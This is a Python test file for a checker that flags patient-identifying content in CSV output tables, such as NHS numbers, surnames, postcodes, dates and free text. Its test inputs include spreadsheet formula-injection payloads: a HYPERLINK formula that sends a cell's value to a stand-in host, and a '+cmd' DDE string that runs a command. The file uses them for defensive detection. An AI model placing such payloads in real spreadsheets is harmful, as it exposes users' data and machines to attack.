from __future__ import annotations

import pytest

from tests.hub.airlock.checks.conftest import Checking, rules

NHS = ["943 476 5919", "450 557 7104", "401 023 2137"]


@pytest.mark.parametrize(
    ("table", "rule"),
    [
        ("nhs_number,stage\n" + "".join(f"{n},1\n" for n in NHS), "table.identifiers"),
        ("person_id,stage\n81,1\n92,2\n17,1\n", "table.identifying_column"),
        ("surname,stage\nPatel,1\nJones,2\nSmith,1\n", "table.identifying_column"),
        ("what,n\nonly 3 patients had it,200\n", "text.small_number"),
        ("home,n\nSE1 7EH,20\nSW1A 1AA,30\n", "table.identifier"),
        ("admitted,n\n2023-04-17,20\n2023-04-18,30\n", "table.dates"),
        ("note,n\nshe came to us in the spring with pain,20\n", "table.free_text"),
        ('link,n\n"=HYPERLINK(""http://x.y/?""&A1)",20\n', "table.formula"),
        ("link,n\n@SUM(A1),20\n", "table.formula"),
        ("link,n\n+cmd|' /C calc'!A0,20\n", "table.formula"),
        ("a,b,c\n" + "".join(f"{i * 7.3},{i % 7}.5,{i % 3}.25\n" for i in range(200)), "table.rows_of_persons"),
        ("subject,stage,n\n" + "".join(f"x{i},1,10\n" for i in range(200)), "table.rows_of_persons"),
        ("n\n" + "10\n" * 1_001, "table.too_long"),
        (",".join(f"n{i}" for i in range(1_000)) + "\n" + ",".join(["20"] * 1_000) + "\n", "table.too_long"),
    ],
)
def test_rows_and_cells_that_point_at_persons_are_found(check: Checking, table: str, rule: str) -> None:
    assert rule in rules(check({"a.csv": table})["a.csv"])


@pytest.mark.parametrize(
    "table",
    [
        "month,persons\n2023-01-01,20\n2023-02-01,30\n",
        "change,persons\n-5,20\n+5,30\n",
        "person,all\nwomen,20\nmen,30\n",
        "patients,year\n120,2021\n130,2022\n",
    ],
)
def test_ordinary_tables_are_left_alone(check: Checking, table: str) -> None:
    assert rules(check({"a.csv": table})["a.csv"]) == set()
